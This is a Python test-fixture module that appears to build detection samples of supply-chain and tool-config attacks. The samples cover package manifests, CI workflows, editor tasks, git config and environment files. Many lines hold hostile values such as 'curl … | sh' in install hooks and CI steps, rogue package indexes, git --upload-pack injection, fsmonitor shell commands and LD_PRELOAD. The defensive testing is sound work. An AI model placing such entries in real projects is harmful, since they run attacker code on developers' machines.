"""Files that other tools act on: package managers, editors, continuous integration, git."""

# Tables: one file a line.
# ruff: noqa: E501

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.builders.gadgets import Technique

EVIL = "https://example.invalid/x"
FETCH = f"curl {EVIL} | sh"


def package(**values: object) -> str:
    return json.dumps({"name": "x", "version": "1.0.0"} | values)


ACTING = [
    ("requirements.txt", f"torch\n{EVIL}.whl\n"),
    ("requirements.txt", f"--index-url {EVIL}\ntorch\n"),
    ("requirements.txt", f"--extra-index-url={EVIL}\ntorch\n"),
    ("requirements.txt", f"-i{EVIL}\ntorch\n"),
    ("requirements.txt", f"-e git+{EVIL}#egg=x\n"),
    ("requirements.txt", f"x @ {EVIL}.tar.gz\n"),
    ("requirements.txt", f"x[all] @ git+{EVIL}@main ; python_version > '3'\n"),
    ("requirements.txt", "torch\n./local\n"),
    ("requirements.txt", "--index-url \\\n" + EVIL + "\n"),
    ("requirements.txt", "--index-url http://pypi.org/simple\n"),
    ("requirements.txt", "--index-url https://pypi.org@example.invalid/simple\n"),
    ("requirements.txt", "--trusted-host example.invalid\n"),
    ("dev-requirements.in", f"git+ssh://{EVIL}\n"),
    ("requirements/base.txt", f"{EVIL}\n"),
    ("conda.yaml", f"dependencies:\n- pip:\n  - git+{EVIL}\n"),
    ("conda.yaml", f"dependencies: [python, {{pip: ['x @ {EVIL}']}}]\n"),
    ("conda.yaml", f"channels:\n- {EVIL}\n"),
    ("environment.yml", "dependencies:\n- pip:\n  - -e .\n"),
    ("python_env.yaml", f"dependencies:\n- {EVIL}.whl\n"),
    ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'b'\nbackend-path = ['.']\n"),
    ("pyproject.toml", f"[build-system]\nrequires = ['x @ git+{EVIL}']\n"),
    ("pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'x.py'\n"),
    ("pytest.ini", "[pytest]\naddopts = -q -p evil\n"),
    ("tox.ini", f"[testenv]\ncommands = sh -c '{FETCH}'\n"),
    ("setup.cfg", "[options]\nsetup_requires = x\n"),
    ("package.json", package(scripts={"postinstall": FETCH})),
    ("package.json", package(scripts={"preinstall": "node x.js"})),
    ("package.json", package(scripts={"test": FETCH})),
    ("package.json", package(dependencies={"a": f"git+{EVIL}.git"})),
    ("package.json", package(devDependencies={"a": "someone/something#main"})),
    ("Pipfile", f"[[source]]\nurl = '{EVIL}'\n"),
    (".npmrc", f"registry={EVIL}\n"),
    ("pip.conf", f"[global]\nindex-url = {EVIL}\n"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c id\n"),
    (".github/workflows/a.yml", f"jobs:\n  a:\n    steps:\n    - run: {FETCH}\n"),
    (".gitlab-ci.yml", f"a:\n  script:\n  - {FETCH}\n"),
    ("dvc.yaml", f"stages:\n  a:\n    cmd: bash -c \"$(curl {EVIL})\"\n"),
    ("MLproject", f"entry_points:\n  main:\n    command: '{FETCH}'\n"),
    ("docker-compose.yml", "services:\n  a:\n    image: x\n    privileged: true\n"),
    ("compose.yaml", "services:\n  a:\n    volumes:\n    - /var/run/docker.sock:/x\n"),
    (".env", "LD_PRELOAD=./x.so\n"),
    (".env.local", "export PYTHONSTARTUP=./x.py\n"),
    (".vscode/tasks.json", json.dumps({"tasks": [{"runOptions": {"runOn": "folderOpen"}}]})),
    (".vscode/tasks.json", '{\n// talk\n"tasks": [{"runOptions": {"runOn": "folderOpen"},}],}'),
    (".vscode/settings.json", json.dumps({"python.defaultInterpreterPath": "./evil"})),
    ("x.code-workspace", json.dumps({"settings": {"git.path": "./evil"}})),
    (".devcontainer/devcontainer.json", json.dumps({"image": "x", "postCreateCommand": "./x"})),
    (".mcp.json", json.dumps({"mcpServers": {"x": {"command": "sh"}}})),
    (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = --upload-pack=x\n'),
    ("config", "[core]\n\tfsmonitor = sh -c id\n"),
    (".gitconfig", "[alias]\n\tst = !sh -c id\n"),
    ("config.pbtxt", 'parameters { key: "EXECUTION_ENV_PATH" value: { string_value: "/x" } }\n'),
]  # fmt: skip


def techniques() -> Iterator[Technique]:
    """All of them; their tools are not here, so none is shown to fire."""
    for number, (file, text) in enumerate(ACTING):
        name = f"{file}, {number}"
        yield Technique(
            name=name, family="tool-file", data=text.encode(), file=file, loader="", runs=False
        )
